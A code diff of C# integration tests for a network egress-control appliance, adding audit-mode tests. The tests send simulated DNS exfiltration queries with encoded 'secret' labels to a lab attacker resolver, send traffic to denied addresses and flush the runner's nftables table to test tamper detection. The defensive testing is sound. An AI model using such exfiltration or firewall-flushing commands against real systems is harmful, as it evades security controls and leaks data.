@@ -64,7 +64,7 @@ public sealed class EnforcementCoreTests
     [SkippableFact]
     public async Task Block_DnsExfiltration_NeverReachesAnyUpstream_UdpTcpAndDirectResolvers()
     {
-        Skip.IfNot(LabEnvironment.CanRun, LabEnvironment.SkipReason);
+        LabRequirement.SkipUnlessAvailable();
         await using var lab = await TestLab.StartAsync(new LabOptions());
         await using var appliance = await ApplianceProcess.StartAsync(lab, Policy);
 
@@ -99,7 +99,7 @@ public sealed class EnforcementCoreTests
     [SkippableFact]
     public async Task Block_RawTcpUdpAndIpv6ToDeniedAddresses_ReceiveNothing_AndAreRecorded()
     {
-        Skip.IfNot(LabEnvironment.CanRun, LabEnvironment.SkipReason);
+        LabRequirement.SkipUnlessAvailable();
         await using var lab = await TestLab.StartAsync(new LabOptions());
         await using var appliance = await ApplianceProcess.StartAsync(lab, Policy);
 
@@ -126,7 +126,7 @@ public sealed class EnforcementCoreTests
     [SkippableFact]
     public async Task Block_AllowedNameOnPort22_ConnectsByResolvedAddresses_OnlyOnGrantedPorts()
     {
-        Skip.IfNot(LabEnvironment.CanRun, LabEnvironment.SkipReason);
+        LabRequirement.SkipUnlessAvailable();
         await using var lab = await TestLab.StartAsync(new LabOptions());
         await using var appliance = await ApplianceProcess.StartAsync(lab, Policy);
 
@@ -153,7 +153,7 @@ public sealed class EnforcementCoreTests
     [SkippableFact]
     public async Task Block_AllowedCidrs_PassOnTheirPortOnly_IPv4AndIPv6()
     {
-        Skip.IfNot(LabEnvironment.CanRun, LabEnvironment.SkipReason);
+        LabRequirement.SkipUnlessAvailable();
         await using var lab = await TestLab.StartAsync(new LabOptions());
         await using var appliance = await ApplianceProcess.StartAsync(lab, Policy);
 
@@ -168,38 +168,158 @@ public sealed class EnforcementCoreTests
         Assert.True(await lab.TcpLog.NoneWithinAsync(r => r.Preview.Contains(other, StringComparison.Ordinal), Quiet));
     }
 
+    // Audit mode: the attempts of the block tests above, one for one. Each must pass — the lab's internet side
+    // receives it — and be in events.jsonl as decision deny, action passed, with its kind, host or address, and port.
+    internal static string AuditPolicy => Policy.Replace("egress-policy: block", "egress-policy: audit", StringComparison.Ordinal);
+
     [SkippableFact]
-    public async Task Audit_SameAttempts_PassAndAreRecordedAsDenyPassed()
+    public async Task Audit_DnsExfiltration_ReachesTheUpstream_AndIsRecorded_UdpTcpAndDirectResolvers()
     {
-        Skip.IfNot(LabEnvironment.CanRun, LabEnvironment.SkipReason);
+        LabRequirement.SkipUnlessAvailable();
         await using var lab = await TestLab.StartAsync(new LabOptions());
-        await using var appliance = await ApplianceProcess.StartAsync(lab, Policy.Replace("egress-policy: block", "egress-policy: audit", StringComparison.Ordinal));
+        await using var appliance = await ApplianceProcess.StartAsync(lab, AuditPolicy);
 
-        var name = "c2VjcmV0." + Unique("a") + ".exfil.test";
-        var dig = await DigAsync(lab, "+short", name, "A");
-        Assert.Equal("198.51.100.20", dig.StandardOutput.Trim());
-        await lab.DnsLog.WaitForAsync(q => q.Name == name, Quiet);
+        var viaSystem = "c2VjcmV0LXN5cw." + Unique("a") + ".exfil.test";
+        var viaTcp = "c2VjcmV0LXRjcA." + Unique("b") + ".exfil.test";
+        var direct = "c2VjcmV0LWRpcg." + Unique("c") + ".exfil.test";
+        var rogue = "c2VjcmV0LXJvZw." + Unique("d") + ".exfil.test";
+        var v6 = "c2VjcmV0LXY2." + Unique("e") + ".exfil.test";
 
-        var tcp = Unique("atcp-");
-        var udp = Unique("audp-");
+        // the zone has A and AAAA for *.exfil.test and no TXT: a TXT query is answered NOERROR without records
+        var r1 = await DigAsync(lab, viaSystem, "TXT");
+        Assert.Contains("status: NOERROR", r1.StandardOutput, StringComparison.Ordinal);
+        Assert.Equal("198.51.100.20", (await DigAsync(lab, "+short", "+tcp", viaTcp, "A")).StandardOutput.Trim());
+        Assert.Equal("198.51.100.20", (await DigAsync(lab, "+short", "@" + lab.DnsV4, direct, "A")).StandardOutput.Trim());
+        Assert.Equal("198.51.100.20", (await DigAsync(lab, "+short", "@" + lab.Attacker.V4, rogue, "A")).StandardOutput.Trim());
+        Assert.Equal("2001:db8:100::20", (await DigAsync(lab, "+short", "@" + lab.DnsV6, "+tcp", v6, "AAAA")).StandardOutput.Trim());
+
+        // each name reached the internet side with its type; the appliance forwards every query to its upstream
+        // (the lab resolver), whichever resolver the client addressed: the firewall redirects all port 53 to it
+        await lab.DnsLog.WaitForAsync(q => q.Name == viaSystem && q.Type == "TXT" && q.Server == "resolver", Quiet);
+        await lab.DnsLog.WaitForAsync(q => q.Name == viaTcp && q.Type == "A" && q.Server == "resolver", Quiet);
+        await lab.DnsLog.WaitForAsync(q => q.Name == direct && q.Type == "A" && q.Server == "resolver", Quiet);
+        await lab.DnsLog.WaitForAsync(q => q.Name == rogue && q.Type == "A" && q.Server == "resolver", Quiet);
+        await lab.DnsLog.WaitForAsync(q => q.Name == v6 && q.Type == "AAAA" && q.Server == "resolver", Quiet);
+
+        foreach (var name in new[] { viaSystem, viaTcp, direct, rogue, v6 })
+        {
+            await appliance.WaitForEventAsync(e => IsEvent(e, "dns", name, null, 53, "deny", "passed"), Quiet);
+        }
+
+        AssertNothingBlocked(appliance);
+    }
+
+    [SkippableFact]
+    public async Task Audit_RawTcpUdpAndIpv6ToDeniedAddresses_Arrive_AndAreRecorded()
+    {
+        LabRequirement.SkipUnlessAvailable();
+        await using var lab = await TestLab.StartAsync(new LabOptions());
+        await using var appliance = await ApplianceProcess.StartAsync(lab, AuditPolicy);
+
+        var tcp4 = Unique("atcp4-");
+        var udp4 = Unique("audp4-");
         var tcp6 = Unique("atcp6-");
-        Assert.True((await SendAsync(lab, "tcp", "198.51.100.20", 9000, tcp)).Succeeded);
-        Assert.True((await SendAsync(lab, "udp", "198.51.100.20", 9001, udp)).Succeeded);
-        Assert.True((await SendAsync(lab, "tcp", "2001:db8:100::20", 9000, tcp6)).Succeeded);
-        await lab.TcpLog.WaitForAsync(r => r.Preview.Contains(tcp, StringComparison.Ordinal), Quiet);
-        await lab.UdpLog.WaitForAsync(r => r.Preview.Contains(udp, StringComparison.Ordinal), Quiet);
+        var udp6 = Unique("audp6-");
+        var quic = Unique("aquic-");
+        var r1 = await SendAsync(lab, "tcp", "198.51.100.20", 9000, tcp4);
+        Assert.True(r1.Succeeded, r1.ToString());
+        var r2 = await SendAsync(lab, "udp", "198.51.100.20", 9001, udp4);
+        Assert.True(r2.Succeeded, r2.ToString());
+        var r3 = await SendAsync(lab, "tcp", "2001:db8:100::20", 9000, tcp6);
+        Assert.True(r3.Succeeded, r3.ToString());
+        var r4 = await SendAsync(lab, "udp", "2001:db8:100::20", 9001, udp6);
+        Assert.True(r4.Succeeded, r4.ToString());
+        var r5 = await SendAsync(lab, "udp", "198.51.100.10", 443, quic);  // QUIC: UDP 443 is open in audit mode
+        Assert.True(r5.Succeeded, r5.ToString());
 
-        await appliance.WaitForEventAsync(e => IsEvent(e, "dns", name, null, -1, "deny", "passed"), Quiet);
+        await lab.TcpLog.WaitForAsync(r => r.Preview.Contains(tcp4, StringComparison.Ordinal) && r.LocalAddress == "198.51.100.20" && r.LocalPort == 9000, Quiet);
+        await lab.TcpLog.WaitForAsync(r => r.Preview.Contains(tcp6, StringComparison.Ordinal) && r.LocalAddress == "2001:db8:100::20" && r.LocalPort == 9000, Quiet);
+        await lab.UdpLog.WaitForAsync(r => r.Preview.Contains(udp4, StringComparison.Ordinal) && r.LocalAddress == "198.51.100.20" && r.LocalPort == 9001, Quiet);
+        await lab.UdpLog.WaitForAsync(r => r.Preview.Contains(udp6, StringComparison.Ordinal) && r.LocalAddress == "2001:db8:100::20" && r.LocalPort == 9001, Quiet);
+        await lab.UdpLog.WaitForAsync(r => r.Preview.Contains(quic, StringComparison.Ordinal) && r.LocalAddress == "198.51.100.10" && r.LocalPort == 443, Quiet);
+
         await appliance.WaitForEventAsync(e => IsEvent(e, "tcp", null, "198.51.100.20", 9000, "deny", "passed"), Quiet);
         await appliance.WaitForEventAsync(e => IsEvent(e, "udp", null, "198.51.100.20", 9001, "deny", "passed"), Quiet);
         await appliance.WaitForEventAsync(e => IsEvent(e, "tcp", null, "2001:db8:100::20", 9000, "deny", "passed"), Quiet);
-        Assert.DoesNotContain(appliance.Events(), e => e.GetProperty("type").GetString() == "network" && e.GetProperty("action").GetString() == "blocked");
+        await appliance.WaitForEventAsync(e => IsEvent(e, "udp", null, "2001:db8:100::20", 9001, "deny", "passed"), Quiet);
+        await appliance.WaitForEventAsync(e => IsEvent(e, "udp", null, "198.51.100.10", 443, "deny", "passed"), Quiet);
+        AssertNothingBlocked(appliance);
     }
+
+    [SkippableFact]
+    public async Task Audit_AllowedNameAndCidrs_OnPortsNotGranted_Arrive_AndAreRecorded()
+    {
+        LabRequirement.SkipUnlessAvailable();
+        await using var lab = await TestLab.StartAsync(new LabOptions());
+        await using var appliance = await ApplianceProcess.StartAsync(lab, AuditPolicy);
+
+        // port 22 of allowed.test before the name was resolved: not in the allow sets yet
+        var before = Unique("abefore-");
+        var r1 = await SendAsync(lab, "tcp", "198.51.100.10", 22, before);
+        Assert.True(r1.Succeeded, r1.ToString());
+        await lab.TcpLog.WaitForAsync(r => r.Preview.Contains(before, StringComparison.Ordinal) && r.LocalPort == 22, Quiet);
+        await appliance.WaitForEventAsync(e => IsEvent(e, "tcp", null, "198.51.100.10", 22, "deny", "passed"), Quiet);
+
+        // resolved: port 22 is granted (allowed, so no deny event); 9000 is not, v4 and v6
+        Assert.Equal("198.51.100.10", (await DigAsync(lab, "+short", "allowed.test", "A")).StandardOutput.Trim());
+        Assert.Equal("2001:db8:100::10", (await DigAsync(lab, "+short", "allowed.test", "AAAA")).StandardOutput.Trim());
+        await appliance.WaitForEventAsync(e => IsEvent(e, "dns", "allowed.test", null, 53, "allow", "passed"), Quiet);
+        var granted6 = Unique("assh6-");
+        var notGranted4 = Unique("ap9000v4-");
+        var notGranted6 = Unique("ap9000v6-");
+        var r2 = await SendAsync(lab, "tcp", "2001:db8:100::10", 22, granted6);
+        Assert.True(r2.Succeeded, r2.ToString());
+        var r3 = await SendAsync(lab, "tcp", "198.51.100.10", 9000, notGranted4);
+        Assert.True(r3.Succeeded, r3.ToString());
+        var r4 = await SendAsync(lab, "tcp", "2001:db8:100::10", 9000, notGranted6);
+        Assert.True(r4.Succeeded, r4.ToString());
+        await lab.TcpLog.WaitForAsync(r => r.Preview.Contains(granted6, StringComparison.Ordinal), Quiet);
+        await lab.TcpLog.WaitForAsync(r => r.Preview.Contains(notGranted4, StringComparison.Ordinal) && r.LocalPort == 9000, Quiet);
+        await lab.TcpLog.WaitForAsync(r => r.Preview.Contains(notGranted6, StringComparison.Ordinal) && r.LocalPort == 9000, Quiet);
+        await appliance.WaitForEventAsync(e => IsEvent(e, "tcp", null, "198.51.100.10", 9000, "deny", "passed"), Quiet);
+        await appliance.WaitForEventAsync(e => IsEvent(e, "tcp", null, "2001:db8:100::10", 9000, "deny", "passed"), Quiet);
+
+        // allowed-cidrs: github.com's addresses on a port other than 9000
+        var cidr = Unique("acidr22-");
+        var r5 = await SendAsync(lab, "tcp", "198.51.100.31", 22, cidr);
+        Assert.True(r5.Succeeded, r5.ToString());
+        await lab.TcpLog.WaitForAsync(r => r.Preview.Contains(cidr, StringComparison.Ordinal) && r.LocalAddress == "198.51.100.31", Quiet);
+        await appliance.WaitForEventAsync(e => IsEvent(e, "tcp", null, "198.51.100.31", 22, "deny", "passed"), Quiet);
+
+        // what the policy allows is not recorded as denied
+        Assert.DoesNotContain(appliance.Events(), e => IsEvent(e, "tcp", null, "2001:db8:100::10", 22, "deny", "passed"));
+        AssertNothingBlocked(appliance);
+    }
+
+    [SkippableFact]
+    public async Task Audit_TableTampering_IsDetectedAndRepaired_DeniedFlowsAreRecordedAgain()
+    {
+        LabRequirement.SkipUnlessAvailable();
+        await using var lab = await TestLab.StartAsync(new LabOptions());
+        await using var appliance = await ApplianceProcess.StartAsync(lab, AuditPolicy);
+
+        // in audit mode an emptied table lets everything through unrecorded: the appliance must notice and re-apply it
+        var flush = await lab.RunInRunnerAsync("nft", ["flush", "table", "inet", "harden_runner"], ClientTimeout);
+        Assert.True(flush.Succeeded, flush.ToString());
+        var detection = await appliance.WaitForEventAsync(e => e.GetProperty("type").GetString() == "detection" && e.GetProperty("detection").GetString() == "firewall-tampered", TimeSpan.FromSeconds(20));
+        Assert.Equal("true", detection.GetProperty("evidence").GetProperty("repaired").GetString());
+
+        // repaired: a denied flow passes and is recorded again (the logging rules are back)
+        var tcp = Unique("aafter-flush-");
+        var sent = await SendAsync(lab, "tcp", "198.51.100.20", 9000, tcp);
+        Assert.True(sent.Succeeded, sent.ToString());
+        await lab.TcpLog.WaitForAsync(r => r.Preview.Contains(tcp, StringComparison.Ordinal), Quiet);
+        await appliance.WaitForEventAsync(e => IsEvent(e, "tcp", null, "198.51.100.20", 9000, "deny", "passed"), Quiet);
+        AssertNothingBlocked(appliance);
+    }
+
+    private static void AssertNothingBlocked(ApplianceProcess appliance) =>
+        Assert.DoesNotContain(appliance.Events(), e => e.GetProperty("type").GetString() == "network" && e.GetProperty("action").GetString() == "blocked");
 
     [SkippableFact]
     public async Task Block_KillMinus9_EgressStaysClosed()
     {
-        Skip.IfNot(LabEnvironment.CanRun, LabEnvironment.SkipReason);
+        LabRequirement.SkipUnlessAvailable();
         await using var lab = await TestLab.StartAsync(new LabOptions());
         await using var appliance = await ApplianceProcess.StartAsync(lab, Policy);
         appliance.Process.Kill();
@@ -223,7 +343,7 @@ public sealed class EnforcementCoreTests
     [SkippableFact]
     public async Task Block_TableTampering_IsDetectedAndRepaired()
     {
-        Skip.IfNot(LabEnvironment.CanRun, LabEnvironment.SkipReason);
+        LabRequirement.SkipUnlessAvailable();
         await using var lab = await TestLab.StartAsync(new LabOptions());
         await using var appliance = await ApplianceProcess.StartAsync(lab, Policy);
 
@@ -259,7 +379,7 @@ public sealed class EnforcementCoreTests
     [SkippableFact]
     public async Task Stop_RemovesTheTable_RestoresResolvConf_WritesSummary()
     {
-        Skip.IfNot(LabEnvironment.CanRun, LabEnvironment.SkipReason);
+        LabRequirement.SkipUnlessAvailable();
         await using var lab = await TestLab.StartAsync(new LabOptions());
         var before = await lab.RunInRunnerAsync("cat", ["/etc/resolv.conf"], ClientTimeout);
         await using var appliance = await ApplianceProcess.StartAsync(lab, Policy);
@@ -292,7 +412,7 @@ public sealed class EnforcementCoreTests
     [SkippableFact]
     public async Task Run_WithNoPolicyFile_IsAuditModeWithNothingAllowed_BlocksNothingAndRecordsEverything()
     {
-        Skip.IfNot(LabEnvironment.CanRun, LabEnvironment.SkipReason);
+        LabRequirement.SkipUnlessAvailable();
         await using var lab = await TestLab.StartAsync(new LabOptions());
         await using var appliance = await ApplianceProcess.StartAsync(lab, null, "--upstream-ca", lab.CaCertificatePath);
         var output = await appliance.WaitForOutputAsync("policy (default)", TimeSpan.FromSeconds(10));
@@ -315,7 +435,7 @@ public sealed class EnforcementCoreTests
     public async Task Run_InvalidPolicy_ExitsTwo_AndChangesNothing()
     {
         // audit mode (block mode leaves egress closed instead: FailClosedStartTests)
-        Skip.IfNot(LabEnvironment.CanRun, LabEnvironment.SkipReason);
+        LabRequirement.SkipUnlessAvailable();
         await using var lab = await TestLab.StartAsync(new LabOptions());
         var policy = Path.Combine(lab.WorkDirectory, "bad.yml");
         await File.WriteAllTextAsync(policy, "egress-policy: audit\nallowed-endpoints: [\"*\"]\n");
